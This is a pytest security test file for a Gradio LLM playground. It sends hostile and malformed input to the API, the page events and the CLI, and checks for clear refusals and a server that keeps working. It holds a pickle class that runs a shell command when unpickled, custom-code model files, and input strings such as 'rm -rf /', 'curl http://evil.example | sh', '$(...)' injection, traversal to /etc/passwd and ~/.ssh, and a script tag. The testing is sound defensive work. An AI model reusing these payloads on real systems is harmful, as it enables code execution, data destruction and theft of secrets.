"""Hostile and malformed input at every entry point: the issue's section 3.

One server for the whole table (`python app.py`, started once per test session and
shared with tests/test_security.py), with its limits set low by their environment
variables, and PLAYGROUND_MODEL_DIRS pointing at a folder of bad models made here:
a malformed config.json, a safetensors file cut inside its header and one cut inside
its data, a folder with only a pickle checkpoint (whose unpickling would run a shell
command), a config that asks for custom code, symlinks pointing out (to /etc, and to a
valid model outside the allowed folders), a plain file.

Every row is an entry point, an input and what the answer must say. After every row
the next request (4 greedy tokens from the bundled model, loaded once at the start)
must succeed: a bad request never costs the next visitor anything, not even the
model that was loaded.

The entry points:
- the API endpoints, through gradio_client;
- the page's events: ui_load and ui_generate are callable by gradio_client
  (api_visibility "undocumented"); the others are "private", which only gradio_client
  respects: a browser, or any script, posts them to /gradio_api/queue/join as the page
  does (`playground.tools.raw_session.RawSession`), so they are in the table too;
- JSON bodies written by hand, for what gradio_client will not send (an unpaired
  UTF-16 surrogate);
- the CLI, `python -m playground report`: in-process through `cli.main`, and once as a
  real process.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Callable

import pytest
from gradio_client import Client

from playground.core.paths import BUNDLED_DIR
from playground.tools import cli
from playground.tools.raw_session import RawSession
from playground.tools.server import log_exceptions
from tests.conftest import ROOT, start_server, stop_server

pytestmark = pytest.mark.slow

LIMITS = {
    "PLAYGROUND_MAX_NEW_TOKENS": "300",
    "PLAYGROUND_MAX_PROMPT_CHARS": "5000",
    "PLAYGROUND_MAX_COMPARE_PAIRS": "2",
    "PLAYGROUND_MAX_QUEUE": "4",
    "PLAYGROUND_MAX_DIAGNOSE_CHARS": "2000000",
    "PLAYGROUND_MEMORY_BUDGET": "2GB",
}
LLAMA_7B = {  # meta-llama/Llama-2-7b-hf's config.json, as the Hub serves it
    "architectures": ["LlamaForCausalLM"], "bos_token_id": 1, "eos_token_id": 2, "hidden_act": "silu",
    "hidden_size": 4096, "initializer_range": 0.02, "intermediate_size": 11008, "max_position_embeddings": 4096,
    "model_type": "llama", "num_attention_heads": 32, "num_hidden_layers": 32, "num_key_value_heads": 32,
    "pretraining_tp": 1, "rms_norm_eps": 1e-05, "rope_scaling": None, "tie_word_embeddings": False,
    "torch_dtype": "float16", "transformers_version": "4.31.0.dev0", "use_cache": True, "vocab_size": 32000,
}


class Shell:
    """Unpickling this runs a shell command: what a malicious .bin checkpoint does."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def _model_files(dst: Path) -> None:
    dst.mkdir(parents=True)
    for f in BUNDLED_DIR.iterdir():
        if f.is_file() and f.suffix in (".json",):
            shutil.copy(f, dst / f.name)


def make_bad_models(root: Path) -> SimpleNamespace:
    """The folder PLAYGROUND_MODEL_DIRS points at, and everything a hostile visitor could aim at."""
    models, outside, markers = root / "models", root / "outside", root / "markers"
    markers.mkdir(parents=True)
    models.mkdir()
    weights = (BUNDLED_DIR / "model.safetensors").read_bytes()

    (models / "malformed").mkdir()
    (models / "malformed" / "config.json").write_text('{"model_type": "gpt2", "n_layer": ')
    (models / "malformed" / "model.safetensors").write_bytes(weights)

    _model_files(models / "truncated-header")
    (models / "truncated-header" / "model.safetensors").write_bytes(weights[:1000])
    _model_files(models / "truncated-data")
    (models / "truncated-data" / "model.safetensors").write_bytes(weights[: len(weights) // 2])

    _model_files(models / "pickle-only")
    (models / "pickle-only" / "pytorch_model.bin").write_bytes(
        pickle.dumps({"weight": Shell(f"touch {markers / 'pickle-ran'}")}, protocol=2))

    (models / "remote-code").mkdir()
    (models / "remote-code" / "config.json").write_text(json.dumps({
        "model_type": "evil-gpt", "architectures": ["EvilForCausalLM"],
        "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                     "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}}))
    code = f"open({str(markers / 'remote-code-ran')!r}, 'w').write('ran')\n"
    (models / "remote-code" / "configuration_evil.py").write_text(code)
    (models / "remote-code" / "modeling_evil.py").write_text(code)
    (models / "remote-code" / "model.safetensors").write_bytes(weights)

    # a known architecture with an auto_map beside it: Transformers loads its own GPT-2 class
    shutil.copytree(BUNDLED_DIR, models / "known-type-with-code")
    cfg = json.loads((models / "known-type-with-code" / "config.json").read_text())
    cfg["auto_map"] = {"AutoConfig": "configuration_evil.EvilConfig", "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
    (models / "known-type-with-code" / "config.json").write_text(json.dumps(cfg))
    (models / "known-type-with-code" / "configuration_evil.py").write_text(code)
    (models / "known-type-with-code" / "modeling_evil.py").write_text(code)

    shutil.copytree(BUNDLED_DIR, outside / "bundled-copy")  # a valid model outside the allowed folders
    (models / "escape").symlink_to("/etc")
    (models / "escape-model").symlink_to(outside / "bundled-copy")
    (models / "notes.txt").write_text("not a model")

    cache = root / "hf-cache"
    snap = cache / "models--meta-llama--Llama-2-7b-hf" / "snapshots" / ("0" * 40)
    snap.mkdir(parents=True)
    (snap / "config.json").write_text(json.dumps(LLAMA_7B))
    (cache / "models--meta-llama--Llama-2-7b-hf" / "refs").mkdir()
    (cache / "models--meta-llama--Llama-2-7b-hf" / "refs" / "main").write_text("0" * 40)
    return SimpleNamespace(models=models, outside=outside, markers=markers, cache=cache)


def hostile_server(tmp_path_factory):
    """The shared server (the `hostile` fixture of tests/e2e/conftest.py, for this module and test_security): bad
    models allowed in, limits low, the bundled model loaded."""
    root = tmp_path_factory.mktemp("hostile")
    paths = make_bad_models(root)
    tmpdir = root / "tmpdir"
    tmpdir.mkdir()
    env = dict(LIMITS, PLAYGROUND_MODEL_DIRS=str(paths.models), HF_HUB_CACHE=str(paths.cache), HF_HUB_OFFLINE="1",
               TMPDIR=str(tmpdir))
    server = start_server(root, env)
    client = Client(server.url, verbose=False)
    client.predict("shakespeare-gpt2", "cpu", "float32", api_name="/load_model")
    with RawSession(server.url) as s:
        deps = s.http.get(s.url + "config").json()["dependencies"]
    fns = {d["api_name"]: d["id"] for d in deps if d.get("api_name")}
    yield SimpleNamespace(server=server, url=server.url, client=client, fns=fns, tmpdir=tmpdir, root=root, **vars(paths))
    stop_server(server)
    assert server_log_exceptions(server) == [], server.log_text()[-3000:]


def server_log_exceptions(server) -> list[str]:
    """Tracebacks in the log, except those Gradio prints for its own components' checks on the
    page's events (a Radio value not among its choices, a Slider value above its maximum):
    `gradio.exceptions.Error: "Value: ..."` / `'Value 301 is greater than maximum value 300.'`.
    The visitor gets Gradio's clear message; Gradio prints the traceback, not the playground."""
    return [e for e in log_exceptions(server.log_text())
            if not re.match(r"""gradio\.exceptions\.Error: ["']Value""", e)]


# ---------------------------------------------------------------- how each entry point is called

class Refused(Exception):
    """An entry point's error answer, as text."""


def api(name: str, *args):
    def call(h):
        try:
            return h.client.predict(*args, api_name=f"/{name}")
        except Exception as e:  # noqa: BLE001  (gradio_client's AppError carries the message)
            raise Refused(str(e)) from None
    return call


def raw(name: str, data: list | None = None, body: str | None = None):
    """Post an event as the page (or any script) does; `body` is the JSON text, written by hand."""
    def call(h):
        with RawSession(h.url) as s:
            fn = h.fns[name]
            text = None if body is None else body.replace("FN", str(fn)).replace("SESSION", s.session_hash)
            msg = s.call(fn, data, text)
        if not msg.get("success"):
            out = msg.get("output") or {}
            raise Refused(str(out.get("error") or out))
        return msg["output"]["data"]
    return call


def raw_json(name: str, args_json: str):
    return raw(name, body='{"data": ' + args_json + ', "fn_index": FN, "session_hash": "SESSION"}')


def cli_main(*argv: str):
    def call(h, capfd=None):
        code = cli.main(list(argv))
        out, err = capfd.readouterr() if capfd else ("", "")
        if code != 0:
            raise Refused(f"exit {code}: {err.strip()}")
        return out
    return call


def bad(h, name: str) -> str:
    return str(getattr(h, "models") / name)


@dataclass
class Row:
    id: str
    call: Callable
    expect: tuple[str, ...] | None  # fragments, any of which the refusal must contain; None: must succeed
    ok: Callable[[object], bool] | None = None


def load(model, device="cpu", dtype="float32"):
    return api("load_model", model, device, dtype)


def gen(prompt="ROMEO:", n=4, temperature=0.0, top_p=1.0, seed=0):
    return api("generate", prompt, n, temperature, top_p, seed)


def at(name: str, how: Callable[[str], Callable]):
    """A row whose input is a path under the bad-models folder (known only once the server runs)."""
    return lambda h: how(bad(h, name))(h)


OUTSIDE = ("outside the folders",)
NOT_HUB = ("neither a Hub id",)
BUNDLED_LINE = "ROMEO:"

ROWS = [
    # ---- the model box: Hub ids, URLs, shell, length, unicode
    Row("model: ../../etc/passwd", load("../../etc/passwd"), OUTSIDE),
    Row("model: hub id with ../ inside", load("gpt2/../../../../etc"), OUTSIDE),
    Row("model: windows traversal", load("..\\..\\windows\\system32"), OUTSIDE),
    Row("model: url-encoded traversal", load("%2e%2e%2f%2e%2e%2fetc%2fpasswd"), NOT_HUB),
    Row("model: https URL", load("https://huggingface.co/gpt2"), ("URLs are not accepted",)),
    Row("model: file URL", load("file:///etc/passwd"), ("URLs are not accepted",)),
    Row("model: hf:// URL", load("hf://meta-llama/Llama-2-7b-hf"), ("URLs are not accepted",)),
    Row("model: shell ;", load("gpt2; rm -rf /"), NOT_HUB),
    Row("model: shell $()", lambda h: load(f"$(touch {h.markers / 'shell-ran'})")(h), NOT_HUB),
    Row("model: shell backticks", load("`id`"), NOT_HUB),
    Row("model: shell pipe", load("gpt2 && curl http://evil.example | sh"), NOT_HUB + ("URLs are not accepted",)),
    Row("model: 10k characters", load("a" * 10_000), ("too long",)),
    Row("model: right-to-left override", load("gpt2\u202egnp.exe"), NOT_HUB + ("\\u202e",)),
    Row("model: fullwidth letters", load("ｇｐｔ２"), NOT_HUB),
    Row("model: cyrillic homoglyph", load("gрt2"), NOT_HUB),
    Row("model: zero-width space", load("gp\u200bt2"), NOT_HUB),
    Row("model: unpaired surrogate (raw JSON)", raw_json("load_model", '["\\ud800", "cpu", "float32"]'), NOT_HUB),
    Row("model: empty", load(""), ("No model given",)),
    Row("model: null", load(None), ("No model given",)),
    Row("model: a number", load(5), ("No model given",)),
    # ---- local paths outside the allowed folders
    Row("path: /etc", load("/etc"), OUTSIDE),
    Row("path: ~", load("~"), OUTSIDE),
    Row("path: ~/.ssh", load("~/.ssh"), OUTSIDE),
    Row("path: /proc/self/environ", load("/proc/self/environ"), OUTSIDE),
    Row("path: symlink to /etc", at("escape", load), OUTSIDE),
    Row("path: symlink to a valid model outside", at("escape-model", load), OUTSIDE),
    Row("path: allowed folder that does not exist", at("no-such-model", load), ("does not exist",)),
    Row("path: a file", at("notes.txt", load), ("is a file",)),
    # ---- broken model folders inside the allowed ones
    Row("folder: malformed config.json", at("malformed", load), ("not valid JSON",)),
    Row("folder: safetensors cut in its header", at("truncated-header", load), ("not a readable safetensors",)),
    Row("folder: safetensors cut in its data", at("truncated-data", load), ("is truncated",)),
    Row("folder: pickle .bin only", at("pickle-only", load), ("only pickle weights",)),
    Row("folder: asks for custom code", at("remote-code", load), ("custom code",)),
    # ---- device
    Row("device: cuda:99", load("shakespeare-gpt2", "cuda:99"), ("not available",)),
    Row("device: gpu", load("shakespeare-gpt2", "gpu"), ("not a device name",)),
    Row("device: empty", load("shakespeare-gpt2", ""), ("No device given",)),
    Row("device: cpu; rm -rf /", load("shakespeare-gpt2", "cpu; rm -rf /"), ("not a device name",)),
    Row("device: cuda:-1", load("shakespeare-gpt2", "cuda:-1"), ("not a device name",)),
    Row("device: right-to-left override", load("shakespeare-gpt2", "\u202ecpu"), ("not a device name",)),
    Row("device: unpaired surrogate (raw JSON)", raw_json("load_model", '["shakespeare-gpt2", "\\udfff", "float32"]'),
        ("not a device name",)),
    # ---- dtype
    Row("dtype: int3", load("shakespeare-gpt2", "cpu", "int3"), ("not a dtype",)),
    Row("dtype: float64", load("shakespeare-gpt2", "cpu", "float64"), ("not a dtype",)),
    Row("dtype: random text", load("shakespeare-gpt2", "cpu", "fl0at☃32"), ("not a dtype",)),
    Row("dtype: empty", load("shakespeare-gpt2", "cpu", ""), ("not a dtype",)),
    # ---- the prompt
    Row("prompt: empty", gen(""), ("prompt is empty",)),
    Row("prompt: whitespace only", gen("   \n\t  "), ("prompt is empty",)),
    Row("prompt: 1 MB", gen("x" * 1_000_000), ("limit is 5,000",)),
    Row("prompt: just over the limit", gen("x" * 5_001), ("limit is 5,000",)),
    Row("prompt: longer than the context", gen("Romeo, " * 400), ("context",)),
    Row("prompt: NUL bytes", gen("ROMEO\x00\x01\x02"), ("NUL",)),
    Row("prompt: unpaired surrogate (raw JSON)", raw_json("generate", '["ROMEO \\ud800", 4, 0, 1, 0]'),
        ("invalid Unicode",)),
    Row("prompt: control bytes are text", gen("\x01\x02\x7f\x1b[31m ROMEO:"), None,
        lambda r: r[1]["new_tokens"] == 4),
    Row("prompt: right-to-left override is text", gen("\u202eROMEO:"), None, lambda r: r[1]["new_tokens"] == 4),
    # ---- max_new_tokens, temperature, top_p, seed
    Row("max_new_tokens: 0", gen(n=0), ("max_new_tokens",)),
    Row("max_new_tokens: -1", gen(n=-1), ("max_new_tokens",)),
    Row("max_new_tokens: 10**9", gen(n=10**9), ("from 1 to 300",)),
    Row("max_new_tokens: 301 (PLAYGROUND_MAX_NEW_TOKENS=300)", gen(n=301), ("from 1 to 300",)),
    Row("max_new_tokens: 10**400", gen(n=10**400), ("from 1 to 300",)),
    Row("max_new_tokens: abc", gen(n="abc"), ("max_new_tokens must be a number",)),
    Row("max_new_tokens: NaN (raw JSON)", raw_json("generate", '["ROMEO:", NaN, 0, 1, 0]'), ("finite",)),
    Row("max_new_tokens: a list", gen(n=[1, 2]), ("max_new_tokens must be a number",)),
    Row("temperature: -1", gen(temperature=-1), ("temperature",)),
    Row("temperature: NaN (raw JSON)", raw_json("generate", '["ROMEO:", 4, NaN, 1, 0]'), ("finite",)),
    Row("temperature: 1e999 (raw JSON)", raw_json("generate", '["ROMEO:", 4, 1e999, 1, 0]'), ("finite",)),
    Row("top_p: 0", gen(top_p=0), ("top_p",)),
    Row("top_p: 1.5", gen(top_p=1.5), ("top_p",)),
    Row("top_p: -Infinity (raw JSON)", raw_json("generate", '["ROMEO:", 4, 1, -Infinity, 0]'), ("finite",)),
    Row("seed: -1", gen(seed=-1), ("seed",)),
    Row("seed: 2**64", gen(seed=2**64), ("seed",)),
    Row("seed: 10**400", gen(seed=10**400), ("seed",)),
    Row("seed: 1.5", gen(seed=1.5), ("seed",)),
    # ---- the lab, the diagnoser, the estimate, the comparison
    Row("break_it: unknown id", api("break_it", "no-such-mistake"), ("Unknown mistake",)),
    Row("break_it: path as id", api("break_it", "../../etc/passwd"), ("Unknown mistake",)),
    Row("break_it: null", api("break_it", None), ("Unknown mistake",)),
    Row("diagnose: 1 MB of text", api("diagnose", "x" * 999_000 + "\nRuntimeError: Expected all tensors to be on "
                                      "the same device, but found at least two devices, cuda:0 and cpu!"),
        None, lambda r: r["text_chars"] > 999_000 and r["matches"]),
    Row("diagnose: over PLAYGROUND_MAX_DIAGNOSE_CHARS", api("diagnose", "y" * 2_000_001), ("limit is 2,000,000",)),
    Row("diagnose: empty", api("diagnose", ""), ("Nothing to diagnose",)),
    Row("diagnose: unpaired surrogate (raw JSON)", raw_json("diagnose", '["Expected all tensors \\ud800"]'),
        ("invalid Unicode",)),
    Row("estimate: path outside", api("estimate", "/etc", "float32"), OUTSIDE),
    Row("estimate: dtype int3", api("estimate", "shakespeare-gpt2", "int3"), ("not a dtype",)),
    Row("estimate: URL", api("estimate", "http://evil.example/x", "float32"), ("URLs are not accepted",)),
    Row("compare: device gpu", api("compare", "shakespeare-gpt2", ["gpu/float32"], 4), ("not a device name",)),
    Row("compare: over PLAYGROUND_MAX_COMPARE_PAIRS", api("compare", "shakespeare-gpt2",
                                                          ["cpu/float32", "cpu/bfloat16", "cpu/float16"], 4),
        ("the limit is 2",)),
    Row("compare: 10k-character pair", api("compare", "shakespeare-gpt2", ["x" * 10_000], 4), ("not a pair",)),
    Row("compare: no pairs", api("compare", "shakespeare-gpt2", [], 4), ("No pairs",)),
    Row("compare: max_new_tokens -1", api("compare", "shakespeare-gpt2", ["cpu/float32"], -1), ("max_new_tokens",)),
    # ---- placement: the model, the limits, the block count, the device (nothing here loads: the model stays)
    Row("plan_placement: path outside", api("plan_placement", "/etc", "float32", "cpu=1GB,disk"), OUTSIDE),
    Row("plan_placement: limits with shell", api("plan_placement", "shakespeare-gpt2", "float32", "cpu=1GB; rm -rf /"),
        ("is not a memory size",)),
    Row("plan_placement: limits 10**400", api("plan_placement", "shakespeare-gpt2", "float32", 10**400),
        ("Memory limits are text",)),
    Row("plan_placement: limits a list", api("plan_placement", "shakespeare-gpt2", "float32", ["cpu=1GB"]),
        ("Memory limits are text",)),
    Row("plan_placement: 10k-character limits", api("plan_placement", "shakespeare-gpt2", "float32", "x" * 10_000),
        ("at most 200",)),
    Row("plan_placement: a size of 10**20 digits", api("plan_placement", "shakespeare-gpt2", "float32",
                                                        "cpu=" + "9" * 20 + "GB"), ("is not a memory size",)),
    Row("plan_placement: right-to-left override", api("plan_placement", "shakespeare-gpt2", "float32", "\u202ecpu=1GB"),
        ("is not a limit", "\\u202e")),
    Row("plan_placement: below one block", api("plan_placement", "shakespeare-gpt2", "float32", "cpu=1KB,disk"),
        ("below one block",)),
    Row("load_placed: a GPU no machine has", api("load_placed", "shakespeare-gpt2", "float32", "cuda:99=1GB,disk"),
        ("is not on this machine",)),
    Row("offload_cliff: 10**400 blocks", api("offload_cliff", 10**400), ("max_blocks",)),
    Row("offload_cliff: NaN (raw JSON)", raw_json("offload_cliff", "[NaN]"), ("finite",)),
    Row("offload_cost: nothing offloaded", api("offload_cost"), ("has no offloaded block",)),
    Row("load_straight: device with shell", api("load_straight", "cpu; rm -rf /", "bfloat16"), ("not a device name",)),
    # ---- the page's events: a refusal is answered in the panel of the button that sent it (and a toast), the
    # event itself succeeds (Gradio would mark every output failed); a value outside a component's choices is
    # still refused by Gradio itself
    Row("ui_load: traversal", api("ui_load", "../../etc/passwd", "cpu", "float32", "en"), None,
        lambda r: any(OUTSIDE[0] in str(x) for x in r)),
    Row("ui_load: device outside the radio's choices", api("ui_load", "shakespeare-gpt2", "cuda:99", "float32", "en"),
        ("not in the list of choices",)),
    Row("ui_generate: 1 MB prompt", api("ui_generate", "x" * 1_000_000, 4, 0, 1, 0, False, "inputs-on-cpu",
                                        "generate", "en", True), None,
        lambda r: any("limit is 5,000" in str(x) for x in r)),
    Row("ui_generate: max_new_tokens 301", api("ui_generate", "ROMEO:", 301, 0, 1, 0, False, "inputs-on-cpu",
                                               "generate", "en", True), ("300",)),
    Row("ui_estimate (private): /etc", raw("ui_estimate", ["/etc", "cpu", "float32", 256, 1, "en"]), None,
        lambda r: OUTSIDE[0] in r[0]),
    Row("ui_diagnose (private): over the limit", raw("ui_diagnose", ["z" * 2_000_001, "en"]), ("limit is 2,000,000",)),
    Row("ui_compare (private): over the pair limit", raw("ui_compare", ["shakespeare-gpt2", ["cpu/float32",
        "cpu/bfloat16", "cpu/float16"], 4, "en"]), ("the limit is 2",)),
    Row("ui_stop (private): nothing running", raw("ui_stop", []), None, lambda r: r == []),
    Row("inspect (private): script as the language", raw("ui_inspect_loaded", ["<script>alert(1)</script>"]),
        ("not in the list of choices",)),
    # a fresh session holds no model of its own (the pool): told so, in the language it asked for
    Row("inspect (private): a session with no model", raw("ui_inspect_loaded", ["zh"]), None,
        lambda r: "还没有加载模型" in r[0]),
    # ---- the command line
    Row("cli: traversal", cli_main("report", "--model", "../../etc/passwd", "--device", "cpu", "--dtype", "float32"),
        OUTSIDE),
    Row("cli: shell $()", cli_main("report", "--model", "$(id)", "--device", "cpu", "--dtype", "float32"), NOT_HUB),
    Row("cli: URL", cli_main("report", "--model", "https://evil.example/m", "--device", "cpu", "--dtype", "float32"),
        ("URLs are not accepted",)),
    Row("cli: device with shell", cli_main("report", "--model", "shakespeare-gpt2", "--device", "cpu; rm -rf /",
                                           "--dtype", "float32"), ("not a device name",)),
    Row("cli: dtype int3", cli_main("report", "--model", "shakespeare-gpt2", "--device", "cpu", "--dtype", "int3"),
        ("not a dtype",)),
    Row("cli: max-new-tokens NaN", cli_main("report", "--model", "shakespeare-gpt2", "--device", "cpu", "--dtype",
                                            "float32", "--max-new-tokens", "NaN"), ("finite",)),
    Row("cli: empty prompt", cli_main("report", "--model", "shakespeare-gpt2", "--device", "cpu", "--dtype", "float32",
                                      "--prompt", ""), ("prompt is empty",)),
    Row("cli: seed -1", cli_main("report", "--model", "shakespeare-gpt2", "--device", "cpu", "--dtype", "float32",
                                 "--seed", "-1"), ("seed",)),
    Row("cli: unknown option", cli_main("report", "--model", "shakespeare-gpt2", "--evil", "1"),
        ("unrecognized arguments", "required")),
]


def test_the_table_is_large_and_covers_every_entry_point():
    assert len(ROWS) >= 40
    ids = [r.id for r in ROWS]
    assert len(set(ids)) == len(ids)
    for prefix in ("model:", "path:", "folder:", "device:", "dtype:", "prompt:", "max_new_tokens:", "temperature:",
                   "top_p:", "seed:", "break_it:", "diagnose:", "estimate:", "compare:", "ui_", "cli:"):
        assert any(i.startswith(prefix) for i in ids), prefix


def _next_request_succeeds(h) -> None:
    _text, stats = h.client.predict(BUNDLED_LINE, 4, 0.0, 1.0, 0, api_name="/generate")
    assert stats["new_tokens"] == 4 and stats["model"] == "shakespeare-gpt2", stats


@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
def test_hostile_input_gets_a_clear_answer_and_the_next_request_works(hostile, row, capfd):
    t0 = time.perf_counter()
    call = (lambda h: row.call(h, capfd)) if row.id.startswith("cli:") else row.call
    if row.expect is None:
        result = call(hostile)
        assert row.ok(result), str(result)[:500]
    else:
        with pytest.raises(Refused) as refusal:
            call(hostile)
        msg = str(refusal.value)
        assert any(f in msg for f in row.expect), msg[:1000]
        # a sentence, not a traceback, and nothing invisible quoted back
        assert "Traceback" not in msg and "\u202e" not in msg and "\ud800" not in msg
        assert len(msg) < 2000, len(msg)
    assert time.perf_counter() - t0 < 30, "must answer promptly"
    _next_request_succeeds(hostile)


def test_a_flood_gets_queue_full_and_the_server_keeps_serving(hostile):
    """PLAYGROUND_MAX_QUEUE=4: a burst of 12 generations gets some "queue is full" answers
    at once, the others are served, and the next request works."""
    answers: list[str] = []
    lock = threading.Lock()

    def one(i: int) -> None:
        try:
            c = Client(hostile.url, verbose=False)
            c.predict("shakespeare-gpt2", "cpu", "float32", api_name="/load_model")  # shared with the server's client
            _t, st = c.predict(f"Visitor {i}:", 40, 0.0, 1.0, i, api_name="/generate")
            out = "ok" if st["new_tokens"] == 40 else f"short {st['new_tokens']}"
        except Exception as e:  # noqa: BLE001
            out = str(e)
        with lock:
            answers.append(out)

    burst = [threading.Thread(target=one, args=(i,)) for i in range(12)]
    for t in burst:
        t.start()
    for t in burst:
        t.join(timeout=120)
    busy = [a for a in answers if "queue is full" in a.lower()]
    assert len(answers) == 12 and busy, answers
    assert all(a == "ok" for a in answers if a not in busy), answers
    _next_request_succeeds(hostile)


def test_the_real_cli_refuses_a_shell_model_name(tmp_path):
    marker = tmp_path / "ran"
    proc = subprocess.run([sys.executable, "-m", "playground", "report", "--model", f"$(touch {marker})",
                           "--device", "cpu", "--dtype", "float32", "--json"],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.count("\n") == 1 and "neither a Hub id" in proc.stderr
    assert not marker.exists()


def test_the_cli_answers_after_hostile_arguments(capfd):
    code = cli.main(["report", "--model", "shakespeare-gpt2", "--device", "cpu", "--dtype", "float32",
                     "--max-new-tokens", "4", "--json"])
    out, _err = capfd.readouterr()
    assert code == 0 and json.loads(out.splitlines()[-1])["new_tokens"] == 4


def test_nothing_hostile_ran_and_the_log_is_clean(hostile):
    """After the table and the flood (this test runs after them): no marker file (shell, pickle, custom code),
    and no exception in the server's log but Gradio's own choice checks."""
    assert list(hostile.markers.iterdir()) == []
    assert server_log_exceptions(hostile.server) == []
